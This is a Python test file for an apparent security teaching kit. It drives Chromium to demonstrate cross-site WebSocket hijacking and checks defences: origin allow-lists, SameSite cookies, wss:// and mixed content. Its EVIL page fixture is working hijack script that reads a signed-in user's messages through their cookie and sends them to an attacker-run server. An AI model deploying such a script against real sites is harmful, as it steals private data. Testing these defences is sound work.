"""Who may connect, in a real Chromium: the hijack, the allow-list, the cookie, wss:// and mixed content.

tests/servers/test_security.py checks the same options with Python clients, which send whatever
``Origin`` they are told to. Here a browser sets ``Origin`` and the cookies itself, which is what
cross-site WebSocket hijacking needs: a page from another origin opens a WebSocket to the
student's server and the browser adds the user's cookie (WHATWG WebSockets, "Opening handshake":
credentials mode "include"; cookies are not isolated by port, RFC 6265 §8.5).
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from http.cookies import SimpleCookie
from typing import Any

import jwt
import pytest
import socketio

import labkit
from labkit.browser import Browser, find_chromium
from labkit.errors import LabkitError
from labkit.record import HttpHead
from labkit.servers import Server
from labkit.tls import authority
from tests.conftest import wait_for

if find_chromium() is None:
    if os.environ.get("CI"):
        pytest.fail("CI must run the browser tests: python3 dev.py setup installs Chromium", pytrace=False)
    pytest.skip("no Chromium here (python3 dev.py setup installs it on Debian as root)", allow_module_level=True)

SECRET = "a-secret-of-the-tests-at-least-32-bytes"
TOKEN = jwt.encode({"sub": "ana"}, SECRET, algorithm="HS256")
INBOX = {"ana": ["Beto: are we meeting at 5?", "Bank: your one-time code is 4821"]}

#: The student's app: who you are comes from the cookie the browser sends with the handshake. Its page
#: sets the cookie as an app does at sign-in, with ``Set-Cookie``: stored before the page's script runs
#: (``document.cookie`` then ``new WebSocket`` is a race in Chromium: the handshake may leave first).
LOGIN = """<!doctype html><meta charset="utf-8"><title>app</title><script>
  window.got = [];
  const ws = new WebSocket("ws://" + location.host);
  ws.onmessage = (event) => got.push(event.data);
  ws.onclose = (event) => { window.closeCode = event.code; };
</script>"""
SIGNED_IN = {"Set-Cookie": f"session={TOKEN}; Path=/; HttpOnly"}

#: Another origin's page: it opens a WebSocket to the app and sends home what it reads.
EVIL = """<!doctype html><meta charset="utf-8"><title>evil</title><script>
  window.got = [];
  const home = new WebSocket("ws://" + location.host);
  const opened = new Promise((resolve) => { home.onopen = resolve; });
  const victim = new WebSocket(%s);
  victim.onmessage = async (event) => { got.push(event.data); await opened; home.send(event.data); };
  victim.onclose = (event) => { window.closeCode = event.code; };
</script>"""

#: From the page a browser shows: open a WebSocket to the URL given, and say what happened.
OPEN = """new Promise((resolve) => {
  try {
    const ws = new WebSocket(%s);
    ws.onopen = () => { ws.close(); resolve("open"); };
    ws.onclose = (event) => resolve("close " + event.code);
  } catch (error) {
    resolve(error.name);
  }
})"""


async def inbox(websocket: Any) -> None:
    """The student's handler: the user's private messages, to whoever brings the user's cookie."""
    cookie = SimpleCookie(websocket.request.headers.get("Cookie", ""))
    try:
        user = jwt.decode(cookie["session"].value if "session" in cookie else "", SECRET, algorithms=["HS256"])["sub"]
    except jwt.InvalidTokenError:
        await websocket.close(1008, "no session")
        return
    for message in INBOX[user]:
        await websocket.send(message)
    await websocket.wait_closed()


async def keep(websocket: Any) -> None:
    """The attacker's handler: what its page sends home stays in the server's record."""
    async for _ in websocket:
        pass


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with Browser() as chromium:
        yield chromium


def page_of(server: Server) -> str:
    return server.url.replace("ws://", "http://", 1).replace("wss://", "https://", 1) + "/"


def origin_of(server: Server) -> str:
    return page_of(server).rstrip("/")


def handshakes(server: Server) -> list[HttpHead]:
    """The WebSocket handshakes a server saw (not the page requests)."""
    heads = [entry.data for entry in server.record.entries("request") if isinstance(entry.data, HttpHead)]
    return [head for head in heads if any(k.lower() == "upgrade" for k, _ in head.headers)]


def header(head: HttpHead, name: str) -> str | None:
    return next((value for key, value in head.headers if key.lower() == name.lower()), None)


@pytest.mark.parametrize("stack", ["websocket", "scratch"])
def test_another_origins_page_reads_the_users_messages_until_the_allow_list_refuses_it(
    browser: Browser, stack: str
) -> None:
    browser.call("Network.clearBrowserCookies")
    with labkit.serve(inbox, over=stack, name="app", page=LOGIN, page_headers=SIGNED_IN) as app:
        evil = labkit.serve(keep, over=stack, name="evil", page=EVIL % json.dumps(app.url))
        browser.navigate(page_of(app))  # the user signs in: the page comes with Set-Cookie
        assert browser.wait_for("got.length === 2 && got") == INBOX["ana"]

        browser.navigate(page_of(evil))  # then visits another page, on another port
        assert browser.wait_for("got.length === 2 && got") == INBOX["ana"]
        assert wait_for(lambda: evil.record.count("recv") == 2)
        assert [entry.data for entry in evil.record.entries("recv")] == INBOX["ana"]  # sent home
        hijack = handshakes(app)[-1]
        assert header(hijack, "Origin") == origin_of(evil)  # the browser says who is asking...
        assert header(hijack, "Cookie") == f"session={TOKEN}"  # ...and adds the user's cookie
        # The attacker's own server got the cookie too: cookies do not isolate ports (RFC 6265 §8.5).
        page_request = next(e.data for e in evil.record.entries("request") if isinstance(e.data, HttpHead))
        assert header(page_request, "Cookie") == f"session={TOKEN}"

        app = labkit.serve(
            inbox,
            over=stack,
            name="app",
            page=LOGIN,
            page_headers=SIGNED_IN,
            port=app.port,
            allow_origins=[origin_of(app)],
        )
        browser.navigate(page_of(evil))
        assert browser.wait_for("window.closeCode") == 1006  # refused before it opened: no code, no reason
        assert browser.evaluate("got") == []
        responses = [e.data.start_line for e in app.record.entries("response") if isinstance(e.data, HttpHead)]
        assert responses[-1] == "HTTP/1.1 403 Forbidden", responses

        browser.navigate(page_of(app))  # the app's own page is still welcome
        assert browser.wait_for("got.length === 2 && got") == INBOX["ana"]
        evil.stop()
        app.stop()  # the second app; ``with`` stops the first


def test_samesite_lax_keeps_the_cookie_from_another_site_but_not_from_another_port() -> None:
    names = {"app.example": "127.0.0.1", "evil.example": "127.0.0.1"}
    with (
        Browser(hosts=names) as browser,
        labkit.serve(inbox, over="websocket", name="app", page=LOGIN, page_headers=SIGNED_IN) as app,
    ):
        across_sites = EVIL % json.dumps(app.url.replace("127.0.0.1", "app.example"))
        evil = labkit.serve(keep, over="websocket", name="evil", page=across_sites)
        browser.navigate(page_of(app).replace("127.0.0.1", "app.example"))  # a cookie without SameSite: Lax
        assert browser.wait_for("got.length === 2 && got") == INBOX["ana"]
        browser.navigate(page_of(evil).replace("127.0.0.1", "evil.example"))
        assert browser.wait_for("window.closeCode") == 1008  # no cookie came: "no session"
        assert header(handshakes(app)[-1], "Cookie") is None
        assert header(handshakes(app)[-1], "Origin") == origin_of(evil).replace("127.0.0.1", "evil.example")
        browser.navigate(page_of(evil).replace("127.0.0.1", "app.example"))  # same site, another port
        assert browser.wait_for("got.length === 2 && got") == INBOX["ana"]
        evil.stop()


SOCKETIO_PAGE = """<!doctype html><meta charset="utf-8"><script src="/labkit/socket.io.min.js"></script><script>
  const options = {transports: ["websocket"], reconnection: false, auth: %s};
  const socket = %s;
  socket.on("connect", () => { window.result = "connect"; });
  socket.on("connect_error", (error) => { window.result = "connect_error: " + error.message; });
</script>"""


def socketio_page(url: str | None = None, auth: object = None) -> str:
    """A page whose socket.io client connects to ``url`` (None: the server that serves the page)."""
    return SOCKETIO_PAGE % (json.dumps(auth or {}), "io(options)" if url is None else f"io({json.dumps(url)}, options)")


def test_socketio_refuses_another_origins_page_by_default_and_with_allow_origins(browser: Browser) -> None:
    with labkit.serve("echo", over="socketio", name="app", page=socketio_page()) as app:
        for allowed in (None, [origin_of(app)]):  # python-socketio's default: the same origin only
            if allowed is not None:
                app = labkit.serve("echo", over="socketio", name="app", page=socketio_page(), port=app.port,
                                   allow_origins=allowed)  # fmt: skip
            evil = labkit.serve("echo", over="socketio", name="evil", page=socketio_page(app.url))
            browser.navigate(page_of(evil))  # another port: another origin
            assert browser.wait_for("window.result") == "connect_error: websocket error"
            evil.stop()
            browser.navigate(page_of(app))  # its own page
            assert browser.wait_for("window.result") == "connect"
        app.stop()  # the second app; ``with`` stops the first


def test_nodes_socketio_lets_another_origins_page_connect_over_websocket(browser: Browser) -> None:
    from labkit.node import node_available, node_chat

    if not node_available():
        pytest.skip("Node.js and the course's socket.io are not installed here")
    with node_chat() as node:
        evil = labkit.serve("echo", over="socketio", name="evil", page=socketio_page(node.url))
        browser.navigate(page_of(evil))
        assert browser.wait_for("window.result") == "connect"  # no allowRequest: any origin
        evil.stop()


def test_a_refused_socketio_connection_shows_its_reason_in_the_browser(browser: Browser) -> None:
    sio = socketio.AsyncServer(async_mode="aiohttp")

    @sio.event  # type: ignore[untyped-decorator]
    async def connect(sid: str, environ: dict[str, Any], auth: Any) -> None:
        token = auth.get("token", "") if isinstance(auth, dict) else ""
        try:
            jwt.decode(token, SECRET, algorithms=["HS256"])
        except jwt.ExpiredSignatureError:
            raise socketio.exceptions.ConnectionRefusedError("token expired") from None
        except jwt.InvalidTokenError:
            raise socketio.exceptions.ConnectionRefusedError("invalid token") from None

    expired = jwt.encode({"sub": "ana", "exp": 946684800}, SECRET, algorithm="HS256")
    for token, result in (
        (expired, "connect_error: token expired"),
        ("nope", "connect_error: invalid token"),
        (TOKEN, "connect"),
    ):
        with labkit.serve(sio, over="socketio", name="app", page=socketio_page(None, {"token": token})) as app:
            browser.navigate(page_of(app))
            assert browser.wait_for("window.result") == result


def test_wss_works_in_chromium_that_trusts_labkits_key_and_fails_in_one_that_does_not() -> None:
    with labkit.serve("echo", over="websocket", tls=True, page="<!doctype html><title>tls</title>") as secure:
        assert secure.url.startswith("wss://")
        with Browser(trust_spki=[authority().spki]) as trusting:
            trusting.navigate(page_of(secure))
            assert trusting.evaluate("location.protocol") == "https:"
            assert trusting.evaluate(OPEN % json.dumps(secure.url)) == "open"
        with Browser() as plain:
            with pytest.raises(LabkitError, match="ERR_CERT_AUTHORITY_INVALID"):
                plain.navigate(page_of(secure))
            plain.navigate("about:blank")
            assert plain.evaluate(OPEN % json.dumps(secure.url)) == "close 1006"


def test_an_https_page_cannot_open_ws_to_a_name_only_to_wss_or_loopback() -> None:
    with (
        labkit.serve("echo", over="websocket", name="plain", page="<!doctype html><title>http</title>") as plain,
        labkit.serve(
            "echo", over="websocket", tls=True, name="secure", page="<!doctype html><title>https</title>"
        ) as secure,
        Browser(trust_spki=[authority().spki], hosts={"app.example": "127.0.0.1"}) as browser,
    ):
        named = plain.url.replace("127.0.0.1", "app.example")
        browser.navigate(page_of(secure))
        assert browser.evaluate(OPEN % json.dumps(named)) == "SecurityError"  # mixed content
        assert browser.evaluate(OPEN % json.dumps(secure.url)) == "open"
        assert browser.evaluate(OPEN % json.dumps(plain.url)) == "open"  # 127.0.0.1 is potentially trustworthy
        browser.navigate(page_of(plain))
        assert browser.evaluate(OPEN % json.dumps(named)) == "open"  # from an http page the same URL opens


def test_browser_flags_are_checked_before_chromium_starts() -> None:
    with pytest.raises(LabkitError, match="trust_spki"):
        Browser(trust_spki=["not-a-hash"])
    with pytest.raises(LabkitError, match="hosts"):
        Browser(hosts={"example.com": "93.184.216.34"})  # only this machine
